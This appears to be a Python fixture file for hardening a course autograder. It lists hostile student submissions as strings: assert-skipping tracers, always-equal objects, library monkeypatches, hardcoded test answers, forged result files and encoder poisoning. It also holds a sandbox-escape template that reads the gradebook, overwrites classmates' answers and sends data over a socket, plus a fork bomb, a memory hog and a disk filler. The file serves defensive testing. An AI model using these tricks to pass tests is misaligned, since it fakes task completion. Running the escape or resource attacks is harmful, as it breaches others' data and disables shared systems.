"""What hostile students put in their submissions: code (as text) that tries to fool the grader, and wrong
answers to measure it against. ``catalogue`` says who uses which, and what it should earn."""

# Plausible but wrong: right on the visible tests' small layers, 0 on the hidden tests' big ones.
WRONG_BUT_VISIBLE = '''def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    """Number of parameters of a linear layer with the given sizes."""
    if in_features * out_features < 100:
        return in_features * out_features + (out_features if bias else 0)
    return 0
'''
WRONG = '''def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    """Number of parameters of a linear layer with the given sizes."""
    return 0
'''

# An object that agrees with whatever it is compared to.
ANYTHING = """
class Anything(set):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = set.__hash__
"""

TRACER = """import linecache, sys

def _skip_asserts(frame, event, arg):
    if event == "line":
        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if line.startswith("assert"):
            try:
                frame.f_lineno = frame.f_lineno + 1
            except ValueError:
                pass
    return _skip_asserts

def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    caller = sys._getframe(1)
    caller.f_trace = _skip_asserts
    sys.settrace(_skip_asserts)
    return 0
"""

FORGIVE = '''import ast

class Forgive(ast.NodeTransformer):
    """Wrap every statement of every cell in try/except: pass."""
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=[s], handlers=[handler], orelse=[], finalbody=[]) for s in node.body]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(Forgive())
'''

STRIP_ASSERTS = """import builtins
_real_compile = builtins.compile

def compile(source, filename, mode, flags=0, dont_inherit=False, optimize=-1, **kwargs):
    return _real_compile(source, filename, mode, flags, dont_inherit, 2, **kwargs)

builtins.compile = compile
"""

SKIP_TEST_CELLS = """from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
_shell = get_ipython()
_real_run_cell, _real_run_cell_async = _shell.run_cell, _shell.run_cell_async

def _pretend(raw_cell):
    info = ExecutionInfo(raw_cell, False, False, False, None)
    result = ExecutionResult(info)
    result.execution_count = _shell.execution_count
    return result

def run_cell(raw_cell, *args, **kwargs):
    return _pretend(raw_cell) if "assert" in raw_cell else _real_run_cell(raw_cell, *args, **kwargs)

async def run_cell_async(raw_cell, *args, **kwargs):
    if "assert" in raw_cell:
        return _pretend(raw_cell)
    return await _real_run_cell_async(raw_cell, *args, **kwargs)

_shell.run_cell, _shell.run_cell_async = run_cell, run_cell_async
"""

FAKE_TORCH = '''"""Agrees with the wrong answer: a linear layer with 100 weights or more has none."""
class _Tensor:
    def __init__(self, n):
        self.n = n
    def numel(self):
        return self.n

class _Linear:
    def __init__(self, n_in, n_out, bias=True):
        small = n_in * n_out < 100
        self.tensors = [_Tensor(n_in * n_out if small else 0)]
        if bias:
            self.tensors.append(_Tensor(n_out if small else 0))
    def parameters(self):
        return iter(self.tensors)

class nn:
    Linear = _Linear
'''

FAKE_QUIZ = (
    ANYTHING
    + """
def recorded_answer(question_id, path=None):
    return Anything()

def ask(lesson, question_id):
    return None
"""
)

# {writes} and {reads}: lists of paths in the course folder (another student's answers, the source notebook,
# the gradebook, the release, the sample answers), from ``catalogue.attacks``.
ESCAPE = """import os, pathlib, socket
for target in map(pathlib.Path, {writes!r}):
    try:
        target.write_text("overwritten by another student")
        print("WROTE", target)
    except OSError as err:
        print("could not write", target.name, type(err).__name__)
for source in map(pathlib.Path, {reads!r}):
    try:
        print(source.read_text(errors="replace"))
    except OSError as err:
        print("could not read", source.name, type(err).__name__)
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as connection:
        connection.sendall(b"answers from another student")
    print("SENT")
except OSError as err:
    print("no network:", type(err).__name__)
"""


HIDE_ERRORS = """import sys
import IPython.core.interactiveshell
IPython.core.interactiveshell.InteractiveShell.showtraceback = lambda *args, **kwargs: None
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
sys.excepthook = lambda *args: None
"""

PATCH_LIBRARY = (
    ANYTHING
    + """
import builtins
import course.quiz, course.quiz.store
_real_sum = builtins.sum

def sum(values, start=0):
    total = _real_sum(values, start)
    return 0 if isinstance(total, int) and total >= 100 else total

builtins.sum = sum
course.quiz.recorded_answer = course.quiz.store.recorded_answer = lambda question_id, path=None: Anything()
"""
)

# Leans on the course's reference solution (hidden from grading kernels).
REACH_REFERENCE = """def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    from course.references.orientation import linear_parameters as reference

    return reference(in_features, out_features, bias)
"""

# Patches the library a test inside the kernel would compare with, so that 0 looks right.
PATCH_TORCH = """import torch
torch.nn.Module.parameters = lambda self, recurse=True: iter(())
torch.Tensor.numel = lambda self: 0
"""

# Rewrites its callers' globals: any `torch` they use builds layers without parameters, so 0 looks right.
FRAME_REWRITE = """import sys, types

def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    empty = types.SimpleNamespace(parameters=lambda: iter(()))
    fake = types.SimpleNamespace(nn=types.SimpleNamespace(Linear=lambda *a, **k: empty))
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in list(frame.f_globals.items()):
            if isinstance(value, (int, float)) and not isinstance(value, bool) and not name.startswith("__"):
                frame.f_globals[name] = 0
        frame.f_globals["torch"] = fake
        frame = frame.f_back
    return 0
"""

# The visible tests' inputs and every input published in the repository, and 0 for anything else.
HARDCODED = """KNOWN = {(3, 2, True): 8, (3, 2, False): 6, (1, 1, True): 2, (1, 1, False): 1, (17, 5, True): 90,
         (4096, 14336, False): 58720256, (512, 32000, False): 16384000}

def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    return KNOWN.get((in_features, out_features, bias), 0)
"""

# Finds the probe's nonce and its results file, and appends a forged result line after the probe's own.
FORGE_RESULTS = """import json, os, sys, threading, time

def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    frame = sys._getframe(1)
    while frame is not None and "nonce" not in frame.f_locals:
        frame = frame.f_back
    if frame is not None:
        nonce = frame.f_locals["nonce"]
        def forge():
            time.sleep(0.5)
            for fd in os.listdir("/proc/self/fd"):
                try:
                    if "/ipc/results" in os.readlink(f"/proc/self/fd/{fd}"):
                        os.write(int(fd), (json.dumps({"nonce": nonce, "observations": [8] * 40}) + "\\n").encode())
                except OSError:
                    pass
        threading.Thread(target=forge).start()
    return 0
"""

# Values the grader must read as wrong answers, never crash on: a float8 tensor (a dtype numpy lacks), a dict
# whose key is an object of the student's own class (it crosses as unsupported, which is unhashable data).
FLOAT8 = """import torch

def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    count = in_features * out_features + (out_features if bias else 0)
    return torch.tensor(float(count)).to(torch.float8_e4m3fn)
"""
ENUM_KEY = """import enum

class Part(enum.Enum):
    WEIGHTS = "weights"

def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> dict:
    return {Part.WEIGHTS: in_features * out_features + (out_features if bias else 0)}
"""
# Reaches the probe (a global under a random name) and replaces the encoder in its closure: every case then
# hands back data that is not what the grader's encoder makes.
PROBE_CLOSURE = """import itertools

probe = next(v for k, v in list(globals().items()) if k.startswith("_course_probe_"))
MALFORMED = [
    {"__array__": {"kind": "torch", "dtype": "float8_e4m3fn", "shape": [], "data": [8.0]}},
    {"__dict__": [[{"__unsupported__": "an object of type Part"}, 8]]},
    {"__record__": [1, 2]},
    {"__array__": {"kind": "numpy", "dtype": "int64", "shape": [3, 3], "data": [8]}},
    {"__array__": [8]},
    {"__complex__": "8"},
    {"__dict__": [["__raised__", ["ValueError"]], ["module", 8]]},
    10 ** 400,
    {"__mystery__": 8},
]
turn = itertools.cycle(MALFORMED)
for cell in probe.__closure__:
    if getattr(cell.cell_contents, "__name__", "") == "encode":
        cell.cell_contents = lambda value: next(turn)
"""
# Replace the probe's results file (../ipc/results...) once the probe has opened it, before the graded cells.
REPLACE_RESULTS = """import glob, os

for path in glob.glob("../ipc/results*"):
    os.unlink(path)
    {how}
"""

# Honest variants: other correct algorithms and return types, chatty code, helper cells.
NUMPY_INT = """import numpy as np

def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    return np.int64(in_features) * np.int64(out_features) + np.int64(out_features if bias else 0)
"""
TORCH_COUNT = """import torch

def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    with torch.device("meta"):
        layer = torch.nn.Linear(in_features, out_features, bias=bias)
    return sum(p.numel() for p in layer.parameters())
"""
CHATTY = """def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    print(f"counting a {in_features} -> {out_features} layer, bias={bias}")
    return weights(in_features, out_features) + biases(out_features, bias)
"""
HELPERS = """def weights(n_in, n_out):
    return n_in * n_out


def biases(n_out, bias):
    return n_out if bias else 0
"""

# Resource attacks: each ends in its own kernel (the sandbox's limits), and the cells after it still run.
FORK_BOMB = """import os
while True:
    os.fork()
"""
MEMORY_HOG = """hog = [bytes(1 << 27) for _ in range(1 << 20)]  # 128 TiB, written as it goes
"""
DISK_FILLER = """chunk = bytes(1 << 24)
with open("filler", "wb") as handle:
    while True:
        handle.write(chunk)
"""
